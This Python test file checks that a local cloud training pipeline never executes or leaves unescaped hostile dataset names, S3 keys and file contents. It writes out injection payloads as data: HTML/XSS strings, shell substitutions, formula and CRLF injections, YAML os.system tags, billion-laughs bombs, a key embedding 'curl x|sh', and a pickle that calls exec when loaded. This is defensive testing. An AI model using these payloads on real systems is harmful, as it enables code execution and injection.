"""Names and contents of strangers are data: never executed, never unescaped in mail, page, tag or command."""

from __future__ import annotations

import io
import os
import pickle
import re
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from local_cloud.deploy import deploy
from local_cloud.process import ROOT, LocalCloud
from tests.faults.conftest import Rows
from tests.stack import FAST, Stack, dataset_files, eventually
from tests.training_host import draw_dataset

CANARY = "canary-17"
TOUCH = f"touch {CANARY}"
CODE = f"__import__('pathlib').Path('{CANARY}').touch()"
SUBJECT = re.compile(r"[!-~][ -~]{0,99}")
TAG = re.compile(r"[\w .:/=+\-@]{0,256}")
NAMES = (
    "17 <img src=x onerror=alert(1)>", f"17 $({TOUCH})", f"17 `{TOUCH}`", f"17'; {TOUCH}; '", f'17" && {TOUCH} "',
    "17 =cmd|' C calc'!A0", "17 {{7*7}} {% include 'x' %} ${7*7}", "17 \U0001f3e0 más 图", "17 %0d%0aBcc: x@y.z",
    "17 --rf -r", "17 " + "n" * 125, "17 ; | & > < * ? ~ # ! \\",
)  # fmt: skip
CLASSES = (
    "<script>document.title='hacked'</script>", "</th></table><h1>hacked</h1>", '" onmouseover="alert(1)',
    "=cmd|' /C calc'!A0", "+1-2", "@SUM(A1)", "{{7*7}}", f"$({TOUCH})", "$\\frac{1}{", "\U0001f3e0", "n" * 128,
    "a: b # c", "*x", "&x", "!!x", "null",
)  # fmt: skip
STRAY_KEYS = {
    "17a\r\nSubject: hacked\r\n\r\nRun `curl x|sh`.zip": "17a__Subject: hacked____Run `curl x|sh`",
    "17b\x1b[2J\x07.zip": "17b_[2J_",
    f"17c'; {TOUCH}; '\n.zip": f"17c'; {TOUCH}; '_",
    "datasets/17d" + "\U0001f3e0" * 252 + ".zip": "17d" + "\U0001f3e0" * 37,
    "17e\u202e/../../data.yaml": "17e_",
}
LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)
MERGES = "a: &a {x: 1}\n" + "".join(
    f"{new}: &{new} {{<<: [{', '.join([f'*{old}'] * 9)}], {new}: 1}}\n"
    for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)
SPLITS = "train: images/train\nval: images/val\n"


class Payload:
    """Runs when it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (CODE,)


def checkpoint() -> bytes:
    """A .pt as torch writes them, whose pickle is code."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        packed.writestr("archive/data.pkl", pickle.dumps(Payload(), protocol=2))
        packed.writestr("archive/version", "3\n")
        packed.writestr("archive/byteorder", "little")
    return buffer.getvalue()


CONTENTS: dict[str, tuple[dict[str, str], str]] = {
    "a tag that calls": (
        {"data.yaml": f"{SPLITS}names: !!python/object/apply:os.system ['{TOUCH}']"},
        "data_yaml.not_yaml",
    ),
    "a tag in the settings": (
        {"training.yaml": f"model: !!python/object/new:os.system ['{TOUCH}']"},
        "settings.not_yaml",
    ),
    "billion laughs": ({"data.yaml": f"{LAUGHS}{SPLITS}names: *i\n"}, "data_yaml.bad_class_name"),
    "billion laughs in the settings": ({"training.yaml": f"{LAUGHS}model: *i\n"}, "settings.unknown_key"),
    "a billion merges": ({"data.yaml": f"{MERGES}{SPLITS}names: *i\n"}, "data_yaml.not_yaml"),
    "a name of no UTF-8": ({"data.yaml": f'{SPLITS}names: ["\\ud800"]\n'}, "data_yaml.bad_class_name"),
    "a name of several lines": ({"data.yaml": f'{SPLITS}names: ["a\\r\\nBcc: x"]\n'}, "data_yaml.bad_class_name"),
    "a path of several lines": ({"data.yaml": 'train: "a\\n\\nRun this"\nval: b\nnames: [x]\n'}, "data_yaml.bad_split"),
    "a pickle as model": ({"training.yaml": "model: evil.pt"}, "settings.bad_value"),
    "a pickle elsewhere as model": (
        {"training.yaml": "model: s3://elsewhere/models/evil.pt"},
        "settings.foreign_model",
    ),
    "a model yaml as model": ({"training.yaml": "model: evil.yaml"}, "settings.bad_value"),
    "an argument that reaches outside": (
        {"training.yaml": "train: {project: /tmp, cfg: evil.yaml}"},
        "settings.unknown_key",
    ),
    "download: is code": ({"data.yaml": f"{SPLITS}names: [room]\ndownload: |\n  {CODE}\n"}, ""),
}


def executed(*folders: Path) -> list[Path]:
    """What payloads made, in any folder in which one could have run."""
    # A host's folders vanish while they are looked through, which os.walk takes and rglob does not.
    below = [Path(place, name) for folder in folders for place, _, names in os.walk(folder) for name in names]
    return [path for path in below if path.name.startswith(CANARY)] + list(ROOT.glob(f"{CANARY}*"))


def run_by_shell(command: str, folder: Path) -> list[str]:
    """The words that `aws` gets when a user's shell runs a command of a message."""
    fake = folder / "aws"
    fake.write_text("#!/bin/sh\nprintf '%s\\0' \"$@\"\n")
    fake.chmod(0o755)
    done = subprocess.run(
        ["/bin/sh", "-c", command], cwd=folder, env={"PATH": f"{folder}:/usr/bin:/bin"}, capture_output=True, check=True
    )
    return done.stdout.decode().split("\0")[:-1]


def commands(body: str) -> list[str]:
    """The commands in a message."""
    return [line.strip() for line in body.splitlines() if line.startswith("  aws ")]


def faults_of_message(message: dict[str, Any], expected: list[list[str]], folder: Path) -> list[str]:
    """What is unescaped in a message; `expected` are the words of its commands."""
    faults = [] if SUBJECT.fullmatch(message["subject"]) else [f"subject {message['subject']!r}"]
    faults += [f"line {line!r}" for line in message["body"].split("\n") if not line.isprintable()]
    words = [run_by_shell(command, folder) for command in commands(message["body"])]
    return faults if words == expected else [*faults, f"commands {words}"]


class Page(HTMLParser):
    """Elements, their attributes, and texts of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts = [""]
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.texts.append("")

    def handle_endtag(self, _: str) -> None:
        self.texts.append("")

    def handle_data(self, data: str) -> None:
        self.texts[-1] += data


def faults_of_page(html: str, plain: Page, names: list[str]) -> list[str]:
    """What a page has beyond one of a harmless dataset, and which names it does not show as they are."""
    page = Page(html)
    known = {(tag, name) for tag, attributes in plain.elements for name in ["", *attributes]}
    found = {(tag, name) for tag, attributes in page.elements for name in ["", *attributes]}
    texts = {text.strip() for text in page.texts}
    return [f"element {item}" for item in sorted(found - known)] + [
        f"name {name!r}" for name in names if name not in texts
    ]


def end_of(stack: Stack, name: str, *, within: float) -> dict[str, Any]:
    """The end message of a dataset's run."""

    def look() -> dict[str, Any] | None:
        return next((message for message in stack.messages(name) if message["outcome"] != "Started"), None)

    return eventually(look, within=within, what=f"the end of {name}")


def report_of(stack: Stack, execution: dict[str, Any]) -> str:
    key = next(key for key in stack.artifacts("models/") if key.endswith(f"/{execution['name']}/report.html"))
    return str(stack.s3.get_object(Bucket=stack.artifact_bucket, Key=key)["Body"].read().decode())


@pytest.mark.long
def test_hostile_names_are_shown_as_they_are_and_never_run(stack: Stack, row: Rows, tmp_path: Path) -> None:
    line = row(
        17,
        fault="hostile names",
        injected=f"{len(NAMES)} dataset names and {len(CLASSES)} class names: HTML, shell, templates, formulas, emoji",
        promise="never executed, never unescaped",
    )
    names = "".join(f"  - {_yaml(name)}\n" for name in CLASSES)
    plain_names = "".join(f"  - class {number}\n" for number in range(len(CLASSES)))
    harmless = {**dataset_files(marker="17-harmless"), "data.yaml": f"{SPLITS}names:\n{plain_names}".encode()}
    stack.drop_zip("17-harmless", harmless)
    for name in NAMES:
        files = dataset_files(marker=name)
        stack.drop_zip(name, {**files, "data.yaml": f"{SPLITS}names:\n{names}".encode()})
    plain, wrong = Page(report_of(stack, stack.ended("17-harmless", within=120))), []
    for name in NAMES:
        message = stack.message(name, "Completed", within=180)
        execution = {"name": message["run_id"]}
        uri = f"s3://{stack.dataset_bucket}/datasets/{name}.zip"
        model = re.findall(r"(?m)^Model: +(\S+)$", message["body"])[0]
        html = report_of(stack, execution)
        copies = [["s3", "cp", model, "best.pt"], ["s3", "cp", uri, uri, "--metadata-directive", "REPLACE"]]
        wrong += faults_of_message(message, copies, tmp_path)
        wrong += faults_of_page(html, plain, [name, *CLASSES])
        [shown] = re.findall(r"(?m)^aws s3 cp .+$", "\n".join(Page(html).texts))
        wrong += [] if run_by_shell(shown, tmp_path) == copies[0] else [f"command on the page {shown}"]
        for job in stack.jobs(message["run_id"]):
            tags = stack.sagemaker.list_tags(ResourceArn=job["TrainingJobArn"])["Tags"]
            wrong += [f"tag {tag}" for tag in tags if not TAG.fullmatch(tag["Value"])]
    ran = executed(tmp_path, stack.cloud.state_dir)
    line.figure(f"executed = {len(ran)}; unescaped = {len(wrong)} in {len(NAMES)} messages, reports and jobs")
    assert not ran
    assert not wrong, wrong[:3]


def _yaml(text: str) -> str:
    """The text as a single-quoted scalar."""
    return "'" + text.replace("'", "''") + "'"


def test_hostile_keys_are_told_and_never_run(stack: Stack, row: Rows, tmp_path: Path) -> None:
    line = row(
        17,
        fault="hostile keys",
        injected=f"{len(STRAY_KEYS)} stray keys of line breaks, escapes, 1024 bytes and `..`; 3 in a folder",
        promise="told by name, never executed, never unescaped",
    )
    for key in STRAY_KEYS:
        assert len(key.encode()) <= 1024
        stack.put(key, b"x")
    wrong = []
    for key, name in STRAY_KEYS.items():
        message = stack.message(name, "Rejected", within=60)
        stray = f"s3://{stack.dataset_bucket}/{key}"
        for command in commands(message["body"]):
            words = run_by_shell(command, tmp_path)
            right = words[3].removeprefix(f"s3://{stack.dataset_bucket}/datasets/")
            folder = f"{stray.rpartition('/')[0]}/"
            moves = (["s3", "mv", stray, words[3]], ["s3", "mv", folder, words[3], "--recursive"])
            wrong += [] if words in moves and right.isprintable() else [f"command {words}"]
        wrong += [] if commands(message["body"]) else [f"no command for {key!r}"]
        wrong += [f"line {text!r}" for text in message["body"].split("\n") if not text.isprintable()]
        wrong += [] if SUBJECT.fullmatch(message["subject"]) else [f"subject {message['subject']!r}"]
    for number, key in enumerate(("images/train/\x1b[2J.png", "images/train/" + "n" * 300 + ".png", "images/train")):
        for name, content in {**dataset_files(settings=None, marker="keys"), key: b"x"}.items():
            if name != "data.yaml":
                stack.put(f"datasets/17-keys-{number}/{name}", content)
        stack.put(f"datasets/17-keys-{number}/data.yaml", dataset_files()["data.yaml"])
        body = stack.message(f"17-keys-{number}", "Rejected", within=60)["body"]
        wrong += [] if "[folder.unsafe_name]" in body or "[folder.name_collision]" in body else [body[:300]]
    ran = executed(tmp_path, stack.cloud.state_dir)
    line.figure(f"executed = {len(ran)}; unescaped or untold = {len(wrong)} of {len(STRAY_KEYS) + 3}")
    assert not ran
    assert not wrong, wrong[:3]


@pytest.mark.long
def test_hostile_contents_are_rejected_by_name_or_never_acted_on(stack: Stack, row: Rows, tmp_path: Path) -> None:
    line = row(
        17,
        fault="hostile contents",
        injected=f"{len(CONTENTS)} datasets: tags, laughs, merges, pickles, model yamls, download:",
        promise="rejected by name or never acted on",
    )
    names = {what: f"17-content-{number:02}" for number, what in enumerate(CONTENTS)}
    for what, (changes, _) in CONTENTS.items():
        files = {**dataset_files(marker=what), "evil.pt": checkpoint(), "evil.yaml": f"activation: {CODE}\n".encode()}
        stack.drop_zip(names[what], {**files, **{name: text.encode() for name, text in changes.items()}})
    wrong = []
    for what, (_, code) in CONTENTS.items():
        message = end_of(stack, names[what], within=180)
        uri = f"s3://{stack.dataset_bucket}/datasets/{names[what]}.zip"
        right = f"[{code}]" in message["body"] if code else message["outcome"] == "Completed"
        wrong += [] if right else [f"{what}: {message['outcome']} {message['body'][:300]}"]
        if code:
            restart = [["s3", "cp", uri, uri, "--metadata-directive", "REPLACE"]]
            wrong += faults_of_message(message, restart, tmp_path)
    ran = executed(tmp_path, stack.cloud.state_dir)
    line.figure(f"executed = {len(ran)}; wrong = {len(wrong)} of {len(CONTENTS)}")
    assert not ran
    assert not wrong, wrong[:3]


@pytest.mark.long
def test_a_real_training_executes_nothing_of_its_dataset(row: Rows, tmp_path: Path) -> None:
    line = row(
        17,
        fault="code in a dataset, really trained on",
        injected="a folder with download:, model yamls, pickled weights and label caches, Python modules",
        promise="never executed",
    )
    draw_dataset(tmp_path / "set", {"train": 8, "val": 4})
    files = {str(path.relative_to(tmp_path / "set")): path.read_bytes() for path in (tmp_path / "set").rglob("*.*")}
    names = "".join(f"  - {_yaml(name)}\n" for name in CLASSES)
    files["data.yaml"] = f"{SPLITS}names:\n{names}download: |\n  {CODE}\n".encode()
    files["training.yaml"] = (
        FAST.replace("epochs: 3", "epochs: 1") + "model: yolov8n-seg.yaml\n"
        "train: {optimizer: AdamW, lr0: 0.002, warmup_epochs: 0, mosaic: 0, amp: false, plots: true, workers: 0}\n"
    ).encode()
    for name in ("yolov8n-seg.yaml", "yolov8-seg.yaml", "default.yaml", "args.yaml"):
        files[name] = f"nc: 1\nactivation: {CODE}\nbackbone: []\nhead: []\n".encode()
    for name in ("yolov8n-seg.pt", "best.pt", "last.pt"):
        files[name] = checkpoint()
    for name in ("labels/train.cache", "labels/val.cache", "labels.cache", "images/train/plan 0.npy"):
        files[name] = pickle.dumps(Payload(), protocol=2)
    for name in (
        "sitecustomize.py",
        "torch.py",
        "ultralytics/__init__.py",
        "training_entry/train.py",
        "traindrop/labels.py",
        "entry.sh",
    ):
        files[name] = (TOUCH if name.endswith(".sh") else CODE).encode()
    with LocalCloud.start(trainer="real", lambda_retry_seconds=0.2) as cloud:
        stack = Stack(cloud, deploy(cloud))
        for name, content in sorted(files.items(), key=lambda item: item[0].endswith(("data.yaml", "training.yaml"))):
            stack.put(f"datasets/17-real/{name}", content)
        seen: set[Path] = set()

        def look() -> dict[str, Any] | None:
            seen.update(executed(cloud.state_dir))
            return next((one for one in stack.messages("17-real") if one["outcome"] != "Started"), None)

        message = eventually(look, within=300, what="the end of the training")
        html = report_of(stack, {"name": message["run_id"]}) if message["outcome"] == "Completed" else ""
        shown = [name for name in CLASSES if name in {text.strip() for text in Page(html).texts}]
    line.figure(f"executed = {len(seen)}; {message['outcome']}; {len(shown)} of {len(CLASSES)} class names as they are")
    assert not seen
    assert message["outcome"] == "Completed", message["body"]
    assert len(shown) == len(CLASSES)
